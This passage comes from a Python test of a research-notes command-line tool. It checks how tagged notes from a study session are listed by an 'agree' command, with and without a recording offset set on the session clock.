    assert run(capsys, "tag", session_id, notes[0][:8], "pain", "--as", "Ana")[0] == 0
    assert run(capsys, "tag", session_id, notes[1][:8], "price", "--as", "Bo")[0] == 0
    _, out, _ = run(capsys, "agree", "--study", "Team")
    line = next(line for line in out.splitlines() if "#pain" in line)
    assert "Team study one 00:00 \u201cgave up" in line and "rec" not in line
    session_file = DataStore(home).open_session(session_id)
    clock = session_file.read().session["clock"]
    session_file.update_session({"clock": {**clock, "recording_offset": 8.0}})
    session_file.close()
    _, out, _ = run(capsys, "agree", "--study", "Team")
    line = next(line for line in out.splitlines() if "#pain" in line)
    assert "Team study one 00:00 (rec 00:08) \u201cgave up" in line, line
